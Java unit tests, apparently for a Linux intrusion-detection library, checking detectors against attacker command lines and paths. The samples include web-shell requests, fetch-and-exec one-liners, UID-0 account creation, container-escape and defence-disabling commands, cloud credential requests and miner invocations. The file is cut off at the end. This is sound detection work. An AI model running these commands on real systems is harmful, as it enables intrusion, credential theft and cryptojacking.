package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * The path tests of {@link Indicators} run on every open, so they compare regions instead of cutting
 * substrings; these tests hold them to the plain substring definitions (kept below as the oracle) on
 * the paths each rule names, their near misses, and every combination of directory and base name.
 */
class IndicatorsTest {
    private static final Set<String> NAMES = Set.of(".netrc", ".git-credentials", ".pgpass", ".my.cnf", "logins.json",
            "key3.db", "key4.db", "Login Data", "credentials.db", "access_tokens.db", ".boto", ".s3cfg", "opasswd");

    /** The definition: base name and directory as substrings. */
    private static boolean credentialStoreOracle(String path) {
        int slash = path.lastIndexOf('/');
        String base = path.substring(slash + 1);
        if (NAMES.contains(base)) {
            return true;
        }
        String dir = slash > 0 ? path.substring(0, slash) : "";
        return base.equals("credentials") && dir.endsWith("/.aws") || base.equals("config") && dir.endsWith("/.kube")
                || base.equals("config.json") && dir.endsWith("/.docker") || path.contains("/.gnupg/private-keys")
                || path.contains("/.password-store/");
    }

    private static boolean privateKeyOracle(String path) {
        String base = path.substring(path.lastIndexOf('/') + 1);
        return (path.contains("/.ssh/") && base.startsWith("id_") || path.startsWith("/etc/ssh/") && base.endsWith("_key"))
                && !base.endsWith(".pub");
    }

    private static int reconGroupOracle(String path) {
        String[][] groups = {
            {"/etc/passwd", "/etc/group"},
            {"/etc/hosts", "/etc/resolv.conf", "/etc/network/interfaces"},
            {"/etc/os-release", "/usr/lib/os-release", "/proc/version", "/etc/issue", "/etc/lsb-release"},
            {},
            {"/proc/modules", "/proc/mounts", "/etc/fstab"},
            {"/etc/ssh/sshd_config", "/etc/crontab", "/etc/cron.d", "/home", "/root"}};
        for (int g = 0; g < groups.length; g++) {
            if (List.of(groups[g]).contains(path)) {
                return 1 << g;
            }
        }
        return path.startsWith("/proc/net/") ? 1 << 3 : path.startsWith("/etc/sudoers") ? 1 << 5 : 0;
    }

    /** Directories and base names the rules name, with near misses, joined every way. */
    private static List<String> paths() {
        String[] dirs = {"", "/", "x/", "/.aws/", "/home/u/.aws/", "/home/u/aws/", "/home/u/.awsx/", ".aws/", "/.kube/",
            "/root/.kube/", "/root/kube/", "/.docker/", "/home/u/.docker/", "/home/u/.gnupg/private-keys-v1.d/",
            "/home/u/.gnupg/", "/home/u/.password-store/", "/home/u/.password-store", "/root/.ssh/", "/.ssh/", ".ssh/",
            "/etc/ssh/", "/etc/ssh/x/", "/etc/sshd/", "/etc/", "/etc/security/", "/proc/", "/proc/net/", "/usr/lib/", "/etc/network/"};
        String[] bases = {"", "credentials", "credentialsx", "config", "config.json", "config.jsonx", ".netrc", "netrc",
            ".git-credentials", ".pgpass", ".my.cnf", "logins.json", "key3.db", "key4.db", "Login Data", "credentials.db",
            "access_tokens.db", ".boto", ".s3cfg", "opasswd", "xopasswd", "id_rsa", "id_rsa.pub", "id_", "xid_rsa",
            "authorized_keys", "ssh_host_rsa_key", "ssh_host_rsa_key.pub", "_key", "key", "passwd", "group", "hosts",
            "resolv.conf", "interfaces", "os-release", "version", "issue", "lsb-release", "modules", "mounts", "fstab",
            "sudoers", "sudoers.d", "sshd_config", "crontab", "cron.d", "tcp", "tcp6", "x.pub", "a.key"};
        List<String> out = new ArrayList<>();
        for (String d : dirs) {
            for (String b : bases) {
                out.add(d + b);
            }
        }
        out.addAll(List.of("/home", "/root", "/homex", "/roo", "/etc", "/proc", "/etc/passwd-", "/etc/sudoers~", "/", "a",
                "/etc/ssh/_key", "/x_key", "_key", ".pub", "/.gnupg/private-keys", "/.password-store/"));
        return out;
    }

    @Test
    void credentialStoreAnswersAsTheSubstringDefinitionOnEveryPath() {
        List<String> stores = new ArrayList<>();
        for (String p : paths()) {
            assertThat(Indicators.credentialStore(p)).as(p).isEqualTo(credentialStoreOracle(p));
            if (Indicators.credentialStore(p)) {
                stores.add(p);
            }
        }
        assertThat(stores).contains("/home/u/.aws/credentials", "/root/.kube/config", "/.docker/config.json",
                "/etc/security/opasswd", "/home/u/.gnupg/private-keys-v1.d/a.key", "/home/u/.password-store/x.pub")
                .doesNotContain("/home/u/aws/credentials", ".aws/credentials", "/home/u/.awsx/credentials",
                        "/home/u/.password-storeconfig");
    }

    @Test
    void privateKeyAnswersAsTheSubstringDefinitionOnEveryPath() {
        for (String p : paths()) {
            assertThat(Indicators.privateKey(p)).as(p).isEqualTo(privateKeyOracle(p));
        }
        assertThat(Indicators.privateKey("/root/.ssh/id_rsa")).isTrue();
        assertThat(Indicators.privateKey("/root/.ssh/id_rsa.pub")).isFalse();
        assertThat(Indicators.privateKey("/etc/ssh/ssh_host_rsa_key")).isTrue();
        assertThat(Indicators.privateKey("/etc/ssh/ssh_host_rsa_key.pub")).isFalse();
        assertThat(Indicators.privateKey(".ssh/id_rsa")).isFalse(); // relative: the accumulator joins it to the cwd first
    }

    @Test
    void reconGroupAnswersAsTheListOfDiscoveryFilesOnEveryPath() {
        int groups = 0;
        for (String p : paths()) {
            assertThat(Indicators.reconGroup(p)).as(p).isEqualTo(reconGroupOracle(p));
            groups |= Indicators.reconGroup(p);
        }
        assertThat(Integer.bitCount(groups)).isEqualTo(Indicators.RECON_GROUPS);
    }

    @Test
    void aSecondRootIsUserIdZeroHoweverItIsSpelled() {
        for (String line : List.of("useradd -o -u 0 x", "useradd -u0 x", "usermod --uid=0 x", "usermod --uid 0 x", "useradd -ou 0 x",
                "adduser --uid 00 x")) {
            List<String> argv = List.of(line.split(" "));
            assertThat(Indicators.makesRootAccount(argv.get(0), argv)).as(line).isTrue();
        }
        for (String line : List.of("useradd -u 1000 x", "useradd -u10 x", "usermod --uid=1000 x", "useradd x", "useradd -g 0 x",
                "useradd -u", "id -u 0", "useradd --home /0 x")) {
            List<String> argv = List.of(line.split(" "));
            assertThat(Indicators.makesRootAccount(argv.get(0), argv)).as(line).isFalse();
        }
    }

    @Test
    void anArchiveFileIsUnpackedWhenItsNameIsInTheArgvButAPipeIsNot() {
        for (String line : List.of("tar xzf pkg.tgz", "tar -xzf pkg.tgz", "tar -x -f pkg.tar", "tar --file=pkg.tar -x",
                "tar --file pkg.tar -x", "tar -C /tmp -xvzf pkg.tgz", "tar -fpkg.tar -x", "bsdtar -xf p.tar", "unzip p.zip",
                "unzip -q p.zip -d out", "7z x p.7z")) {
            List<String> argv = List.of(line.split(" "));
            assertThat(Indicators.unpacksArchiveFile(argv.get(0), argv)).as(line).isTrue();
        }
        for (String line : List.of("tar xz", "tar -xz", "tar -xf -", "tar xf -", "tar --file=- -x", "tar -C /tmp -x",
                "tar -xzf", "7z x -si", "gzip -d p.gz", "cpio -i", "tar", "unzip")) {
            List<String> argv = List.of(line.split(" "));
            assertThat(Indicators.unpacksArchiveFile(argv.get(0), argv)).as(line).isFalse();
        }
        assertThat(Indicators.unpacksArchiveFile(null, List.of("tar", "xf", "p.tar"))).isFalse();
        assertThat(Indicators.unpacksArchiveFile("tar", null)).isFalse();
    }

    @Test
    void walkersAreTheRecursiveGrepsCopiesAndDiffsWhateverTheOptionSpellingButNotSearchesForCredentials() {
        for (String line : List.of("grep -r x /etc", "grep -rn x /etc", "grep -Rl x /etc", "egrep --recursive x /etc",
                "grep --dereference-recursive x /etc", "grep --directories=recurse x /etc", "grep -d recurse x /etc",
                "grep -nd recurse x /etc", "cp -a /etc b", "cp -av /etc b", "cp -R /etc b", "cp --archive /etc b",
                "diff -ru a b", "rgrep x /etc", "rg x /etc", "ag x", "grep -m1 -r x /etc", "grep -r PermitRootLogin /etc",
                "grep -rnF x /etc", "grep -r -e x -e y /etc", "ag -f x /etc")) {
            List<String> argv = List.of(line.split(" "));
            assertThat(Indicators.walksDirectories(argv.get(0), argv)).as(line).isTrue();
        }
        for (String line : List.of("grep x /etc/shadow", "grep -e -r /etc/shadow", "grep -er /etc/shadow", "grep -d skip x /etc",
                "grep -A -r x", "cp /etc/shadow b", "cp -t -r /etc/shadow", "cp -- -r /etc/shadow", "diff a b", "diff -x -r a b",
                "cat -r /etc", "tar cf x /etc", "grep", "grep -rIl -e password -e secret -e token /home", "grep -r -f pats /home",
                "grep -rf pats /home", "grep --file=pats -r /home", "rg -f pats /home", "rg -i SECRET /home", "grep -ri apikey /home",
                "rgrep AKIA /home", "grep -r BEGIN.*PRIVATE /home")) {
            List<String> argv = List.of(line.split(" "));
            assertThat(Indicators.walksDirectories(argv.get(0), argv)).as(line).isFalse();
        }
        assertThat(Indicators.walksDirectories(null, List.of("grep", "-r"))).isFalse();
        assertThat(Indicators.walksDirectories("grep", null)).isFalse();
    }

    @Test
    void autostartEntriesCountWhereSessionManagersLookForThem() {
        for (String path : List.of("/home/u/.config/autostart/x.desktop", "/root/.config/autostart/x.desktop", "/etc/xdg/autostart/x.desktop")) {
            assertThat(PathRules.classify(path, 1) & PathRules.SYSTEMD).as(path).isNotZero();
        }
        for (String path : List.of("/tmp/b/etc/xdg/autostart/x.desktop", "/srv/etcbak/xdg/autostart/x.desktop", "/tmp/autostart/x")) {
            assertThat(PathRules.classify(path, 1) & PathRules.SYSTEMD).as(path).isZero();
        }
    }

    @Test
    void aVersionManagersPrototypeShimIsKnownByItsDirectoryAndName() {
        for (String p : List.of("/root/.pyenv/shims/.pyenv-shim", "/home/u/.rbenv/shims/.rbenv-shim", "/opt/nodenv/shims/.nodenv-shim")) {
            assertThat(Indicators.versionManagerShim(p)).as(p).isTrue();
        }
        for (String p : List.of("/root/.pyenv/shims/python3", "/root/.pyenv/.pyenv-shim", "/tmp/shims/.x", "/tmp/xshims/.a-shim",
                "/shims/.-shim", "/root/.pyenv/shims/.pyenv-shim/x", ".pyenv-shim")) {
            assertThat(Indicators.versionManagerShim(p)).as(p).isFalse();
        }
    }

    @Test
    void sshLoginFilesAreTheKeysAndTheLoginScripts() {
        for (String p : List.of("/root/.ssh/authorized_keys", "/home/u/.ssh/authorized_keys2", "/home/u/.ssh/rc", "/etc/ssh/sshrc")) {
            assertThat(Indicators.sshLoginFile(p)).as(p).isTrue();
        }
        for (String p : List.of("/home/u/.ssh/known_hosts", "/home/u/.ssh/config", "/home/u/.ssh/rc.bak", "/etc/ssh/sshd_config",
                "/home/u/ssh/rc", "/home/u/.ssh/authorized_keys.old")) {
            assertThat(Indicators.sshLoginFile(p)).as(p).isFalse();
        }
    }

    @Test
    void aPrivilegeProgramIsAnImpostorOutsideTheSystemDirectories() {
        for (String p : List.of("/root/.local/bin/sudo", "/home/u/bin/su", "/tmp/doas", "/home/u/.cache/pkexec", "/dev/shm/passwd")) {
            assertThat(Indicators.privilegeProgramImpostor(p)).as(p).isTrue();
        }
        for (String p : List.of("/usr/bin/sudo", "/bin/su", "/usr/local/bin/sudo", "/opt/sudo/bin/sudo", "/tmp/pkg/usr/bin/sudo",
                "/build/debian/sudo/usr/sbin/visudo", "/home/u/.local/bin/sudo-helper", "/home/u/bin/mytool", "/nix/store/x/bin/su")) {
            assertThat(Indicators.privilegeProgramImpostor(p)).as(p).isFalse();
        }
    }

    @Test
    void rootEventScriptsAreTheFilesOfTheHookDirectories() {
        for (String p : List.of("/etc/update-motd.d/99-x", "/etc/NetworkManager/dispatcher.d/01-x", "/etc/network/if-up.d/x",
                "/etc/udev/rules.d/99-x.rules", "/usr/lib/udev/rules.d/99-x.rules", "/etc/apt/apt.conf.d/99x", "/etc/pam.d/sshd",
                "/etc/modules", "/etc/modules-load.d/x.conf", "/etc/ld.so.conf.d/x.conf", "/etc/environment",
                "/lib/systemd/system-generators/x", "/etc/logrotate.d/x", "/etc/grub.d/40_custom", "/etc/bash_completion.d/x")) {
            assertThat(Indicators.rootEventScript(p)).as(p).isTrue();
        }
        for (String p : List.of("/etc/update-motd.d/", "/etc/update-motd.dx", "/etc/motd", "/etc/NetworkManager/NetworkManager.conf",
                "/home/u/etc/update-motd.d/x", "/etc/apt/sources.list.d/x.list", "/etc/modules-load.d/", "/etc/environment.bak",
                "/usr/lib/udev/hwdb.d/x", "/tmp/etc/pam.d/x")) {
            assertThat(Indicators.rootEventScript(p)).as(p).isFalse();
        }
    }

    @Test
    void huntingForSetuidFilesOrFileCapabilitiesIsAPermissionHunt() {
        assertThat(Indicators.permissionHunt("find", List.of("find", "/", "-perm", "-4000"))).isTrue();
        assertThat(Indicators.permissionHunt("find", List.of("find", "/", "-writable", "-type", "d"))).isTrue();
        assertThat(Indicators.permissionHunt("getcap", List.of("getcap", "-r", "/"))).isTrue();
        assertThat(Indicators.permissionHunt("find", List.of("find", ".", "-perm", "644"))).isFalse();
        assertThat(Indicators.permissionHunt("getcap", List.of("getcap", "/usr/bin/ping"))).as("one file's capabilities").isFalse();
        assertThat(Indicators.permissionHunt("getcap", List.of("getcap", "-r", "/usr/bin"))).as("an admin's look at one tree").isFalse();
        assertThat(Indicators.permissionHunt("ls", List.of("ls", "-r"))).isFalse();
    }

    @Test
    void anArchiverThatEncryptsAndDeletesIsToldSoByItsArguments() {
        assertThat(Indicators.encryptsAndRemoves("zip", List.of("zip", "-q", "-m", "-P", "pw", "a.zip", "f"))).isTrue();
        assertThat(Indicators.encryptsAndRemoves("zip", List.of("zip", "-rme", "a.zip", "d"))).isTrue();
        assertThat(Indicators.encryptsAndRemoves("zip", List.of("zip", "--move", "--encrypt", "a.zip", "f"))).isTrue();
        assertThat(Indicators.encryptsAndRemoves("7z", List.of("7z", "a", "-psecret", "-sdel", "a.7z", "d"))).isTrue();
        assertThat(Indicators.encryptsAndRemoves("rar", List.of("rar", "m", "-hpsecret", "a.rar", "d"))).isTrue();
        assertThat(Indicators.encryptsAndRemoves("rar", List.of("rar", "a", "-psecret", "-df", "a.rar", "d"))).isTrue();
        assertThat(Indicators.encryptsAndRemoves("zip", List.of("zip", "-m", "a.zip", "f"))).as("moves, no password").isFalse();
        assertThat(Indicators.encryptsAndRemoves("zip", List.of("zip", "-r", "-P", "pw", "a.zip", "d"))).as("keeps the files").isFalse();
        assertThat(Indicators.encryptsAndRemoves("7z", List.of("7z", "a", "-sdel", "a.7z", "d"))).isFalse();
        assertThat(Indicators.encryptsAndRemoves("tar", List.of("tar", "--remove-files", "-czf", "a.tgz", "d"))).isFalse();
    }

    @Test
    void aMountOverAProcessDirectoryHidesIt() {
        assertThat(Indicators.hidesProcess("/proc/1")).isTrue();
        assertThat(Indicators.hidesProcess("/proc/4242/")).isTrue();
        assertThat(Indicators.hidesProcess("/proc/4242/task/4243")).isTrue();
        assertThat(Indicators.hidesProcess("/proc/sys/fs/binfmt_misc")).isFalse();
        assertThat(Indicators.hidesProcess("/proc")).isFalse();
        assertThat(Indicators.hidesProcess("/proc/")).isFalse();
        assertThat(Indicators.hidesProcess("/mnt/proc/1")).isFalse();
        assertThat(Indicators.hidesProcess(null)).isFalse();
    }

    @Test
    void findHuntingKeysByNameIsAHuntButCertificatesAndPublicKeysAreNot() {
        for (String name : List.of("id_rsa", "id_ed25519*", "*.kdbx", ".git-credentials", "*password*", "ID_RSA")) {
            assertThat(Indicators.permissionHunt("find", List.of("find", "/", "-name", name))).as(name).isTrue();
        }
        for (String name : List.of("id_rsa.pub", "*.pem", "*.crt", "*.conf")) {
            assertThat(Indicators.permissionHunt("find", List.of("find", "/", "-iname", name))).as(name).isFalse();
        }
    }

    @Test
    void aProgramThatARequestOrACommandChannelHeldCameFromTheNetwork() {
        String get = "GET /?c=cat+%2Fetc%2Fpasswd&x=1 HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nAccept: */*\r\n\r\n";
        assertThat(Indicators.programFromNetwork("cat /etc/passwd", get)).as("a web shell's query value").isEqualTo("cat /etc/passwd");
        assertThat(Indicators.programFromNetwork("id", "GET /shell.php?cmd=id HTTP/1.1\r\n\r\n")).isEqualTo("id");
        assertThat(Indicators.programFromNetwork("uname -a", "POST /x HTTP/1.1\r\nContent-Length: 10\r\n\r\nc=uname -a"))
                .as("a form body sent raw (curl -d): its spaces stay in the value").isEqualTo("uname -a");
        assertThat(Indicators.programFromNetwork("ls -la /", "POST /x HTTP/1.1\r\n\r\nls -la /\n")).as("a raw body").isEqualTo("ls -la /");
        assertThat(Indicators.programFromNetwork("id\n", "id\n")).as("a command channel's line, run as it came").isEqualTo("id");
        assertThat(Indicators.programFromNetwork("whoami", "{\"cmd\": \"whoami\", \"n\": 1}")).as("a JSON value").isEqualTo("whoami");
        assertThat(Indicators.programFromNetwork("echo \"a\"", "{\"cmd\":\"echo \\\"a\\\"\"}")).as("JSON escapes").isEqualTo("echo \"a\"");
        assertThat(Indicators.programFromNetwork("id", "\u0001\u0004\u0000\u0001\u000c\u0004QUERY_STRINGc=id\u000f\u0013SCRIPT_FILENAME/x"))
                .as("FastCGI's QUERY_STRING: the next record's length byte ends the value").isEqualTo("id");
        assertThat(Indicators.programFromNetwork("ping -c 1 8.8.8.8;id", "GET /ping?host=8.8.8.8%3Bid HTTP/1.1\r\n\r\n"))
                .as("a value with a shell metacharacter spliced into a longer command").isEqualTo("8.8.8.8;id");
        assertThat(Indicators.programFromNetwork("nslookup x.org|id", "host=x.org|id")).isEqualTo("x.org|id");

        assertThat(Indicators.programFromNetwork("ping -c 1 8.8.8.8", "GET /ping?host=8.8.8.8 HTTP/1.1\r\n\r\n"))
                .as("a plain value inside a command: what servers do with their inputs").isNull();
        assertThat(Indicators.programFromNetwork("date", "GET /?c=id HTTP/1.1\r\n\r\n")).as("a fixed command").isNull();
        assertThat(Indicators.programFromNetwork("id", "GET /?c=idx HTTP/1.1\r\n\r\n")).isNull();
        assertThat(Indicators.programFromNetwork("x", "x")).as("one character is too little to tell").isNull();
        assertThat(Indicators.programFromNetwork("echo a;b", "k=a;")).as("a value under 3 characters is not spliced").isNull();
        assertThat(Indicators.programFromNetwork("make all", "HTTP/1.1 200 OK\r\nSet-Cookie: s=abc; Path=/\r\n\r\nmake")).isNull();
        assertThat(Indicators.programFromNetwork("id", "GET /?c=aWQ= HTTP/1.1\r\n\r\n")).as("an encoded payload is not seen").isNull();
        assertThat(Indicators.programFromNetwork("id", null)).isNull();
        assertThat(Indicators.programFromNetwork("id", "a=1&".repeat(10) + "c=id")).as("the 11th value").isEqualTo("id");
        assertThat(Indicators.programFromNetwork("id", "a=1&".repeat(40) + "c=id"))
                .as("values past the 32nd are not looked at: a read of a thousand '=' costs no quadratic scan").isNull();
    }

    @Test
    void stoppingALoggingOrSecurityServiceImpairsDefenses() {
        for (List<String> argv : List.of(List.of("systemctl", "stop", "auditd"), List.of("systemctl", "--now", "disable", "rsyslog.service"),
                List.of("systemctl", "mask", "systemd-journald.service", "systemd-journald.socket"), List.of("systemctl", "kill", "falco"),
                List.of("service", "rsyslog", "stop"), List.of("invoke-rc.d", "auditd", "stop"), List.of("update-rc.d", "apparmor", "disable"),
                List.of("pkill", "-9", "falcon-sensor"), List.of("killall", "osqueryd"), List.of("auditctl", "-e", "0"),
                List.of("auditctl", "-D"), List.of("setenforce", "0"), List.of("setenforce", "Permissive"), List.of("ufw", "disable"),
                List.of("aa-teardown"))) {
            assertThat(Indicators.impairsDefenses(argv.get(0), argv)).as(String.join(" ", argv)).isTrue();
        }
        for (List<String> argv : List.of(List.of("systemctl", "restart", "rsyslog"), List.of("systemctl", "stop", "nginx"),
                List.of("systemctl", "status", "auditd"), List.of("systemctl", "start", "auditd"), List.of("service", "rsyslog", "restart"),
                List.of("pkill", "-f", "my-syslog-test"), List.of("auditctl", "-e", "1"), List.of("auditctl", "-l"),
                List.of("setenforce", "1"), List.of("ufw", "enable"), List.of("systemctl", "disable", "--now", "cups"),
                List.of("journalctl", "stop", "auditd"))) {
            assertThat(Indicators.impairsDefenses(argv.get(0), argv)).as(String.join(" ", argv)).isFalse();
        }
        assertThat(Indicators.lowersDefenseSetting("/proc/sys/kernel/randomize_va_space", "0\n")).isTrue();
        assertThat(Indicators.lowersDefenseSetting("/proc/sys/kernel/yama/ptrace_scope", "0")).isTrue();
        assertThat(Indicators.lowersDefenseSetting("/proc/sys/kernel/yama/ptrace_scope", "1\n")).as("hardening").isFalse();
        assertThat(Indicators.lowersDefenseSetting("/proc/sys/kernel/sysrq", "0\n")).isFalse();
        assertThat(Indicators.lowersDefenseSetting(null, "0")).isFalse();
    }

    @Test
    void aRequestForRoleOrServiceAccountCredentialsToTheMetadataServiceIsCredentialAccess() {
        for (String request : List.of("GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n",
                "GET /latest/meta-data/iam/security-credentials/web-role HTTP/1.1\r\nX-aws-ec2-metadata-token: x\r\n",
                "GET /latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance HTTP/1.1\r\n",
                "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nMetadata-Flavor: Google\r\n",
                "GET /computeMetadata/v1/instance/service-accounts/default/identity?audience=x HTTP/1.1\r\n",
                "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/ HTTP/1.1\r\n",
                "GET /latest/meta-data/ram/security-credentials/role HTTP/1.1\r\n")) {
            assertThat(Indicators.cloudCredentialRequest(request)).as(request).isTrue();
        }
        for (String request : List.of("GET /latest/meta-data/instance-id HTTP/1.1\r\n", "PUT /latest/api/token HTTP/1.1\r\n",
                "GET /computeMetadata/v1/instance/service-accounts/ HTTP/1.1\r\n", "GET / HTTP/1.1\r\nReferer: /security-credentials\r\n",
                "HTTP/1.1 200 OK\r\n\r\n/security-credentials")) {
            assertThat(Indicators.cloudCredentialRequest(request)).as(request).isFalse();
        }
        assertThat(Indicators.cloudCredentialRequest(null)).isFalse();
        assertThat(Indicators.metadataService("TCP:[10.0.0.5:41234->169.254.169.254:80]")).isTrue();
        assertThat(Indicators.metadataService("TCP:[10.0.0.5:41234->169.254.169.254:8080]")).isFalse();
        assertThat(Indicators.metadataService("TCP:[169.254.169.254:80->10.0.0.5:41234]")).as("a server there, not a client").isFalse();
        assertThat(Indicators.metadataEndpoint("169.254.169.254:80")).isTrue();
        assertThat(Indicators.metadataEndpoint("100.100.100.200:80")).isTrue();
        assertThat(Indicators.metadataEndpoint("169.254.169.253:53")).isFalse();
        // schema 31: AWS's IPv6 endpoint, as -yy and the connect address print it
        assertThat(Indicators.metadataService("TCPv6:[[fd00:ec2::20]:41234->[fd00:ec2::254]:80]")).isTrue();
        assertThat(Indicators.metadataService("TCPv6:[[fd00:ec2::254]:80->[fd00:ec2::20]:41234]")).isFalse();
        assertThat(Indicators.metadataEndpoint("[fd00:ec2::254]:80")).isTrue();
        assertThat(Indicators.metadataEndpoint("[fd00:ec2::254]:443")).isFalse();
    }

    @Test
    void aCommandLineStandsInAScriptOnlyAsAWholeCommand() {
        String script = "set -e\nuname -a > /dev/null\nmkdir -p ~/.x && cd ~/.x;id -u|tr -d x\n(tar xzf a.tgz)\nrm -rf t 2>/dev/null\n"
                + "if true; then\n    chmod +x ~/.x/run\nfi\n";
        for (String command : List.of("uname -a", "mkdir -p ~/.x", "id -u", "tar xzf a.tgz", "set -e", "rm -rf t", "chmod +x ~/.x/run")) {
            assertThat(Indicators.commandIn(command, script)).as(command).isTrue();
        }
        for (String command : List.of("id", "mkdir -p", "xzf a.tgz", "tr -d", "a -a", "rm -rf", "uname -a > /dev/null x")) {
            assertThat(Indicators.commandIn(command, script)).as(command).isFalse();
        }
    }

    @Test
    void anInterpreterOneLinerThatFetchesAndEvaluatesRunsCodeFromTheNetwork() {
        assertThat(Indicators.fetchesAndEvaluates("import urllib.request as u; exec(u.urlopen('http://h/x').read())",
                List.of("python3", "-c", "import urllib.request as u; exec(u.urlopen('http://h/x').read())"))).isTrue();
        assertThat(Indicators.fetchesAndEvaluates("eval HTTP::Tiny->new->get('http://h/x')->{content}",
                List.of("perl", "-MHTTP::Tiny", "-e", "eval HTTP::Tiny->new->get('http://h/x')->{content}"))).isTrue();
        assertThat(Indicators.fetchesAndEvaluates("eval LWP::Simple::get('http://h/x')",
                List.of("perl", "-MLWP::Simple", "-e", "eval LWP::Simple::get('http://h/x')"))).isTrue();
        assertThat(Indicators.fetchesAndEvaluates("fetch('http://h/x').then(r => r.text()).then(eval)",
                List.of("node", "-e", "fetch('http://h/x').then(r => r.text()).then(eval)"))).isTrue();
        assertThat(Indicators.fetchesAndEvaluates("import urllib.request as u; print(u.urlopen('http://h/x').read())",
                List.of("python3", "-c", "import urllib.request as u; print(u.urlopen('http://h/x').read())"))).as("data").isFalse();
        assertThat(Indicators.fetchesAndEvaluates("exec(open('setup.py').read())",
                List.of("python3", "-c", "exec(open('setup.py').read())"))).as("a local file run").isFalse();
        assertThat(Indicators.fetchesAndEvaluates(null, List.of("python3", "x.py"))).isFalse();
    }

    @Test
    void aContainerGivenTheHostsRootWritableOrANamespaceEntryIntoPid1ReachesForTheHost() {
        for (List<String> argv : List.of(List.of("docker", "run", "-v", "/:/host", "--rm", "-it", "alpine", "chroot", "/host", "sh"),
                List.of("docker", "run", "--volume=/:/mnt:rw", "alpine"), List.of("podman", "run", "-v/:/h", "alpine"),
                List.of("docker", "run", "--mount", "type=bind,source=/,target=/host", "alpine"),
                List.of("docker", "create", "--privileged", "--pid=host", "alpine"), List.of("nerdctl", "run", "--privileged", "--pid", "host", "x"),
                List.of("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"), List.of("nsenter", "--target", "1", "--mount", "sh"),
                List.of("nsenter", "-t1", "-a"), List.of("nsenter", "-t", "1", "-mu", "sh"))) {
            assertThat(Indicators.reachesForTheHost(argv.get(0), argv)).as(String.join(" ", argv)).isTrue();
        }
        for (List<String> argv : List.of(List.of("docker", "run", "-v", "/:/host:ro,rslave", "prom/node-exporter"),
                List.of("docker", "run", "-v", "/:/host:rslave,ro", "x"), List.of("docker", "run", "-v", "/srv:/srv", "nginx"),
                List.of("docker", "run", "--mount", "type=bind,source=/,target=/host,readonly", "x"),
                List.of("docker", "run", "--privileged", "docker:dind"), List.of("docker", "run", "--pid=host", "x"),
                List.of("docker", "ps"), List.of("docker", "exec", "-v", "/:/x", "c"), List.of("nsenter", "-t", "4242", "-m", "sh"),
                List.of("nsenter", "-t", "1", "-n", "ip", "a"), List.of("podman", "run", "-v", "/home/u:/home/u", "x"))) {
            assertThat(Indicators.reachesForTheHost(argv.get(0), argv)).as(String.join(" ", argv)).isFalse();
        }
    }

    @Test
    void ciAgentsAndRemoteLoginServersAreKnownByName() {
        for (String exe : List.of("gitlab-runner", "buildkite-agent", "Runner.Worker")) {
            assertThat(Indicators.ciAgent(exe)).as(exe).isTrue();
        }
        for (String exe : List.of("sshd", "sshd-session", "dropbear", "in.telnetd")) {
            assertThat(Indicators.remoteLoginServer(exe)).as(exe).isTrue();
        }
        assertThat(Indicators.ciAgent("socat")).isFalse();
        assertThat(Indicators.ciAgent(null)).isFalse();
        assertThat(Indicators.remoteLoginServer("socat")).isFalse();
        assertThat(Indicators.remoteLoginServer(null)).isFalse();
    }
    @Test
    void poolMessagesAreToldFromOtherJsonRpc() {
        for (String m : List.of("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}",
                "{\"params\":[\"w.1\",\"x\"],\"id\":2,\"method\":\"mining.authorize\"}",
                "{\"id\":null,\"method\":\"mining.notify\",\"params\":[\"bf\"]}",
                "{\"id\":1,\"method\":\"eth_submitLogin\",\"worker\":\"rig\",\"params\":[\"0xabc\"]}",
                "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"xmr-stak/2\"}}",
                "{\"method\":\"login\",\"params\":{\"login\":\"4A\",\"rigid\":\"r1\"}}",
                "{\"id\":3,\"method\":\"submit\",\"params\":{\"id\":\"s\",\"job_id\":\"j\",\"nonce\":\"00\",\"result\":\"ff\"}}",
                "{\"jsonrpc\":\"2.0\",\"method\":\"job\",\"params\":{\"blob\":\"0606\",\"job_id\":\"j\",\"target\":\"b88d\"}}",
                "{\"id\":1,\"result\":{\"id\":\"s\",\"job\": {\"blob\": \"0606\",\"target\":\"b88d\"}}}",
                "{\"id\":4,\"method\":\"keepalived\",\"params\":{\"id\":\"s\"}}")) {
            assertThat(Indicators.miningProtocol(m)).as(m).isTrue();
            assertThat(Indicators.mayBeMining("\"" + m.replace("\"", "\\\"") + "\"")).as("as printed: " + m).isTrue();
        }
        for (String m : List.of("{\"method\":\"login\",\"params\":{\"user\":\"alice\",\"password\":\"x\"}}",
                "{\"method\":\"submit\",\"params\":{\"form\":\"contact\"}}", "{\"method\":\"job\",\"params\":{\"name\":\"nightly\"}}",
                "{\"result\":{\"job\":{\"name\":\"nightly\",\"blob\":\"x\"}}}", "{\"method\":\"search\",\"params\":[\"mining.subscribe\"]}",
                "GET /mining.subscribe HTTP/1.1", "", "mining.subscribe")) {
            assertThat(Indicators.miningProtocol(m)).as(m).isFalse();
        }
        assertThat(Indicators.miningProtocol(null)).isFalse();
        assertThat(Indicators.mayBeMining("\"GET / HTTP/1.1\\r\\nHost: example.org\\r\\n\"")).isFalse();
    }

    @Test
    void minersAreKnownByTheirCommandLines() {
        for (List<String> argv : List.of(List.of("xmrig", "-o", "stratum+tcp://pool:3333"), List.of("x", "--url=stratum+ssl://p:443"),
                List.of("cpuminer", "-a", "sha256d", "-o", "stratum2+tcp://p:3333"), List.of("t-rex", "-o", "stratum1+tls://p:1"),
                List.of("kdevtmpfsi", "--donate-level", "1"), List.of("x", "--donate-level=0"),
                List.of("sh", "-c", "nohup ./x -o p:3333 --donate-level 1 &"), List.of("minerd", "-o", "stratum://p:3333"))) {
            assertThat(Indicators.minesCoins(argv.get(0), argv)).as(String.join(" ", argv)).isTrue();
        }
        assertThat(Indicators.minesCoins("modprobe", List.of("modprobe", "msr", "allow_writes=on"))).isTrue();
        for (List<String> argv : List.of(List.of("modprobe", "msr"), List.of("grep", "-r", "stratum", "."),
